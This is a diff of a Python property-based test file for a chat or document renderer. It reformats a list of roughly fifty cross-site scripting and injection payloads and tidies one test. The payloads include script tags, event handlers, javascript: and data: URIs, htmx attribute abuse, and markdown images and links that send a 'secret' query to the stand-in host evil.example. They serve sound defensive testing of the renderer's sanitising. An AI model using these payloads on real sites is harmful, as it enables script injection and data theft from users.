@@ -12,23 +12,62 @@ from hypothesis import strategies as st
 from north.threads.rendering import Mark, render
 
 PAYLOADS = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
-    "<iframe src=javascript:alert(1)></iframe>", "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "[x](&#106;avascript:alert(1))",
-    "[x](\x01javascript:alert(1))", "<javascript:alert(1)>", "![x](https://evil.example/p.png?q=secret)", "![x][r]\n\n[r]: https://evil.example/p.png",
-    "[![x](https://evil.example/p.png)](https://evil.example)", '<img src="https://evil.example/p.png">', "<img srcset='https://evil.example/p.png 2x'>",
-    '<div style="background:url(https://evil.example/p.png)">x</div>', "<style>@import 'https://evil.example/x.css'</style>",
-    '<link rel=stylesheet href="https://evil.example/x.css">', '<meta http-equiv=refresh content="0;url=https://evil.example">',
-    '<form action="https://evil.example"><input name=q></form>', '<base href="https://evil.example/">', "<object data=https://evil.example></object>",
-    "<embed src=https://evil.example>", "<video poster=https://evil.example/p.png>", "<input onfocus=alert(1) autofocus>",
-    '<button hx-get="/w/acme/threads" hx-trigger="load">x</button>', '<div data-hx-on:load="alert(1)">x</div>', '<p hx-vals="js:{x:alert(1)}">x</p>',
-    "<template><script>alert(1)</script></template>", "<math><mtext><script>alert(1)</script></mtext></math>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "```html\n<script>alert(1)</script>\n```", "```\n<script>alert(1)</script>", "`<script>alert(1)</script>`", '[x](https://evil.example "onmouseover=alert(1)")',
-    '[x](https://evil.example" onmouseover="alert(1))', "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<details open ontoggle=alert(1)>",
-    "| a |\n|--|\n| <script>alert(1)</script> |", "<https://evil.example/?q=secret>", "[x](//evil.example/p)", "[x](/\\evil.example)", "[x](/w/acme/documents)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<a class='cite' href='/w/acme' data-pane>forged</a>", "<span class=sr-only>x</span>",
-    "[x](https://user:pass@evil.example/)", "[x](https://good.example@evil.example/)", "<textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>",
-]  # fmt: skip
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<iframe src=javascript:alert(1)></iframe>',
+    '<a href=javascript:alert(1)>x</a>',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+    '[x](vbscript:msgbox(1))',
+    '[x](&#106;avascript:alert(1))',
+    '[x](\x01javascript:alert(1))',
+    '<javascript:alert(1)>',
+    '![x](https://evil.example/p.png?q=secret)',
+    '![x][r]\n\n[r]: https://evil.example/p.png',
+    '[![x](https://evil.example/p.png)](https://evil.example)',
+    '<img src="https://evil.example/p.png">',
+    "<img srcset='https://evil.example/p.png 2x'>",
+    '<div style="background:url(https://evil.example/p.png)">x</div>',
+    "<style>@import 'https://evil.example/x.css'</style>",
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    '<meta http-equiv=refresh content="0;url=https://evil.example">',
+    '<form action="https://evil.example"><input name=q></form>',
+    '<base href="https://evil.example/">',
+    '<object data=https://evil.example></object>',
+    '<embed src=https://evil.example>',
+    '<video poster=https://evil.example/p.png>',
+    '<input onfocus=alert(1) autofocus>',
+    '<button hx-get="/w/acme/threads" hx-trigger="load">x</button>',
+    '<div data-hx-on:load="alert(1)">x</div>',
+    '<p hx-vals="js:{x:alert(1)}">x</p>',
+    '<template><script>alert(1)</script></template>',
+    '<math><mtext><script>alert(1)</script></mtext></math>',
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    '```html\n<script>alert(1)</script>\n```',
+    '```\n<script>alert(1)</script>',
+    '`<script>alert(1)</script>`',
+    '[x](https://evil.example "onmouseover=alert(1)")',
+    '[x](https://evil.example" onmouseover="alert(1))',
+    '<!--<script>alert(1)</script>-->',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<details open ontoggle=alert(1)>',
+    '| a |\n|--|\n| <script>alert(1)</script> |',
+    '<https://evil.example/?q=secret>',
+    '[x](//evil.example/p)',
+    '[x](/\\evil.example)',
+    '[x](/w/acme/documents)',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '<scr\x00ipt>alert(1)</scr\x00ipt>',
+    "<a class='cite' href='/w/acme' data-pane>forged</a>",
+    '<span class=sr-only>x</span>',
+    '[x](https://user:pass@evil.example/)',
+    '[x](https://good.example@evil.example/)',
+    '<textarea><script>alert(1)</script>',
+    '<xmp><script>alert(1)</script></xmp>',
+]
 TEXTS = st.text(alphabet=st.sampled_from(list("ab c.é日*_`#>-[]()!|\\\n<&12$~:/\"'\U000f0000\U000f0001")), max_size=80)
 
 
@@ -144,7 +183,7 @@ def test_marks_change_no_word_of_the_answer(text: str, spans: list[tuple[int, in
 
 @given(TEXTS, st.lists(st.integers(0, 80), min_size=2, max_size=6, unique=True))
 def test_every_cited_letter_stands_in_a_citation_and_no_other(text: str, places: list[int]) -> None:
-    spans = [span for span in pairwise(sorted(place for place in places if place <= len(text)))][::2]
+    spans = list(pairwise(sorted(place for place in places if place <= len(text))))[::2]
     rendered = render(text, [Mark(start, end, (1,), "/d") for start, end in spans])
     if "outside" in rendered or "host" in rendered:
         return  # words of a link are not cited a second time
